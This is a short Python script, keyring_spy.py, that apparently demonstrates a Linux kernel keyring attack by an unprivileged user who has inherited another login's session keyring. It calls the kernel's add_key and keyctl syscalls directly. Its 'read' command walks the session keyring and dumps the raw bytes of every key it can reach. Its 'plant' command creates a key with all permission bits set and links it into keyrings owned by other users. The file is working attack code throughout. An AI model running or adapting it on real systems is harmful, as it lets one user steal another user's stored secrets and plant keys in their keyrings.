"""Does with the kernel's keyrings what another user, who inherited a login's session keyring, can try.

keyring_spy.py session COMMAND...   joins a new session keyring and becomes COMMAND
keyring_spy.py link                 links the user's keyring to the session keyring, as pam_keyinit does at a login
keyring_spy.py read                 prints every key that the session keyring leads to: its description and its bytes
keyring_spy.py plant DESCRIPTION HEX  links a key of its own into each keyring of another user that it finds
"""

import ctypes
import os
import platform
import sys

libc = ctypes.CDLL(None, use_errno=True)
ADD_KEY, KEYCTL = (217, 219) if platform.machine() == "aarch64" else (248, 250)
PROCESS, SESSION, USER = -2, -3, -4
JOIN, DESCRIBE, LINK, READ, SETPERM = 1, 6, 8, 11, 5


def call(number, *args):
    result = libc.syscall(number, *args)
    return -ctypes.get_errno() if result < 0 else result


def text(operation, key):
    buffer = ctypes.create_string_buffer(8192)
    length = call(KEYCTL, operation, key, buffer, 8192)
    return length, buffer.raw[: max(length, 0)]


def walk(ring, seen):
    length, raw = text(READ, ring)
    for at in range(0, length, 4):
        key = int.from_bytes(raw[at : at + 4], "little")
        if key in seen:
            continue
        seen.add(key)
        described, fields = text(DESCRIBE, key)
        kind, uid, _, _, name = (
            fields.rstrip(b"\0").decode().split(";", 4) if described > 0 else ("unknown", "-1", "", "", "")
        )
        yield key, kind, int(uid), name
        if kind == "keyring":
            yield from walk(key, seen)


command = sys.argv[1]
if command == "session":
    assert call(KEYCTL, JOIN, None) > 0
    os.execvp(sys.argv[2], sys.argv[2:])
elif command == "link":
    assert call(KEYCTL, LINK, USER, SESSION) == 0
elif command == "read":
    for key, kind, uid, name in walk(SESSION, set()):
        length, raw = text(READ, key)
        print(kind, name or key, raw.hex() if length >= 0 else f"errno {-length}")
elif command == "plant":
    payload = bytes.fromhex(sys.argv[3])
    key = call(ADD_KEY, b"user", sys.argv[2].encode(), payload, len(payload), PROCESS)
    assert key > 0 and call(KEYCTL, SETPERM, key, 0x3F3F3F3F) == 0
    for ring, kind, uid, name in list(walk(SESSION, set())):
        if kind == "keyring" and uid not in (0, os.getuid()):
            print("planted", call(KEYCTL, LINK, key, ring) == 0)
